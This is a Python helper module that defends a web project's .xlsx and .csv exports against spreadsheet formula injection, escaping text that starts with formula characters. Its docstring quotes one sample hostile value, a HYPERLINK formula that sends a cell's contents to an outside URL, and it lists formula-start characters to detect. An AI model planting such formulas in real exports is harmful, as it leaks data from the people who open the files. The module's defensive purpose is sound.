"""User text written to spreadsheets stays text: the one helper every .xlsx and .csv export uses.

A cell whose text starts with = + - @ (or a tab / carriage return, which some spreadsheet programs
strip before reading the rest as a formula) would run as a formula on the organiser's computer, e.g.
a participant named `=HYPERLINK("http://…?d="&D3,"Alice")`. Such text gets a leading apostrophe
(the OWASP "CSV injection" advice; Excel and LibreOffice show it as plain text). Numbers, dates and
booleans are written as they are, so a negative number in a numeric column stays a number.

Every export is listed in `EXPORTS` below; tests/hardening/test_export_formulas.py runs each one with
hostile names and fails when a module writes a spreadsheet without being listed here.
"""

import csv
import datetime
import decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Every spreadsheet export of the project: "module: what" (the test checks this list is complete).
EXPORTS = {
    "courses.services.roster": "session roster (.xlsx)",
    "courses.services.imports.report": "import report (.csv)",
    "certificates.admin_views": "certificate registry (.xlsx, .csv through Wagtail's list export)",
    "reports.exports": "reports and the participant list (.xlsx, .csv)",
}


def safe_text(value):
    """`value` as a string that no spreadsheet reads as a formula."""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_cell(value):
    """A cell value: numbers, dates and booleans unchanged, None empty, anything else neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal | datetime.date | datetime.time):
        return value
    return safe_text(value)


def safe_row(values):
    return [safe_cell(value) for value in values]


def write_only_cell(sheet, value):
    """A WriteOnlyCell holding `safe_cell(value)`, typed as a string when it is text (never "f")."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=safe_cell(value))
    if cell.data_type == "f":  # cannot happen after safe_cell; kept as a second lock
        cell.data_type = "s"
    return cell


def csv_writer(handle, **options):
    """A csv.writer whose `writerow` neutralises every field."""
    return _SafeWriter(csv.writer(handle, **options))


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, values):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class SafeExportMixin:
    """For Wagtail index views with `list_export`: every exported text value goes through `safe_cell`
    (Wagtail's own .xlsx writer already stops formulas, its .csv writer does not)."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return safe_cell(value) if isinstance(value, str) else value
